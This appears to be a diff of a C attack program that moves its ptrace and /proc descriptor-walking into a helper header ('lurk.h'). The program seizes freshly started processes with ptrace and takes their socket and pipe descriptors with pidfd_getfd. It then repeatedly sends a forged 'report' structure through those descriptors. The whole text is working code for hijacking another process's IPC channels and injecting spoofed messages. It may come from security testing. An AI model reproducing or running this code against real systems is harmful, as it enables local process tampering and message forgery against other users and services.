@@ -6,20 +6,14 @@
  * it has sent. With TIMES so often, ten in a second, and holds the process as long. One that holds no socket any more is let go, and the next waited for.
  */
 #define _GNU_SOURCE
-#include <dirent.h>
 #include <fcntl.h>
 #include <stdint.h>
-#include <stdio.h>
-#include <stdlib.h>
 #include <string.h>
-#include <sys/ptrace.h>
 #include <sys/socket.h>
 #include <sys/syscall.h>
-#include <sys/wait.h>
-#include <unistd.h>
 
-#define SEIZE 0x4206
-#define INTERRUPT 0x4207
+#include "lurk.h"
+
 #ifndef SYS_pidfd_open
 #define SYS_pidfd_open 434
 #endif
@@ -36,28 +30,21 @@ struct report {
 
 static int forge(int pid, const struct report *report, int times)
 {
-	char path[64], link[384], to[256];
 	int pidfd = (int)syscall(SYS_pidfd_open, pid, 0), sent = 0;
-	struct dirent *entry;
-	DIR *dir;
+	DIR *dir = open_descriptors(pid);
+	const char *number;
+	char to[256];
 
-	snprintf(path, sizeof(path), "/proc/%d/fd", pid);
-	dir = opendir(path);
-	while (dir && (entry = readdir(dir))) {
-		ssize_t n = readlinkat(dirfd(dir), entry->d_name, to, sizeof(to) - 1);
+	while ((number = next_descriptor(dir, to, sizeof(to)))) {
 		int fd;
 
-		if (n <= 0 || atoi(entry->d_name) < 3)
-			continue;
-		to[n] = '\0';
 		if (strncmp(to, "socket:", 7) && strncmp(to, "pipe:", 5))
 			continue;
-		snprintf(link, sizeof(link), "%s/%s", path, entry->d_name);
-		fd = open(link, O_WRONLY | O_NONBLOCK);
+		fd = openat(dirfd(dir), number, O_WRONLY | O_NONBLOCK);
 		if (fd >= 0)
-			printf("opened %s %s\n", entry->d_name, to);
+			printf("opened %s %s\n", number, to);
 		close(fd);
-		fd = (int)syscall(SYS_pidfd_getfd, pidfd, atoi(entry->d_name), 0);
+		fd = (int)syscall(SYS_pidfd_getfd, pidfd, atoi(number), 0);
 		for (int i = 0; i < times && send(fd, report, sizeof(*report), MSG_NOSIGNAL) == (ssize_t)sizeof(*report); i++) {
 			if (i)
 				usleep(100000);
@@ -83,20 +70,12 @@ int main(int argc, char **argv)
 	setvbuf(stdout, NULL, _IOLBF, 0);
 	puts("ready");
 	while (!sent) {
-		/* numbers are given in order, but some are used up by those who are gone at once */
-		for (int pid = next; pid < next + 4; pid++) {
-			if (ptrace(SEIZE, pid, 0, 0) < 0)
-				continue;
-			ptrace(INTERRUPT, pid, 0, 0);
-			if (waitpid(pid, NULL, __WALL) == pid) {
-				sent = forge(pid, &report, argc == 6 ? atoi(argv[5]) : 1);
-				if (sent)
-					puts("sent");
-				ptrace(PTRACE_DETACH, pid, 0, 0);
-			}
-			next = pid + 1;
-			break;
-		}
+		int pid = lurk(&next);
+
+		sent = forge(pid, &report, argc == 6 ? atoi(argv[5]) : 1);
+		if (sent)
+			puts("sent");
+		ptrace(PTRACE_DETACH, pid, 0, 0);
 	}
 	return 0;
 }
